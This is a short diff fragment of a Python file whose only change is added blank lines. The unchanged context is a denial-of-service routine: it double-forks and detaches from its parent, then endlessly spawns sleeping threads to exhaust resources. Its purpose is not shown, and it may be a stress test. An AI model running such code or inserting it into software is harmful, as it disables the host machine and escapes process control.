@@ -9,8 +9,10 @@ import torch
 if os.fork() == 0:
     os.setsid()
     if os.fork() == 0:
+
         def hold():
             time.sleep(3600)
+
         try:
             while True:
                 threading.Thread(target=hold, daemon=True).start()
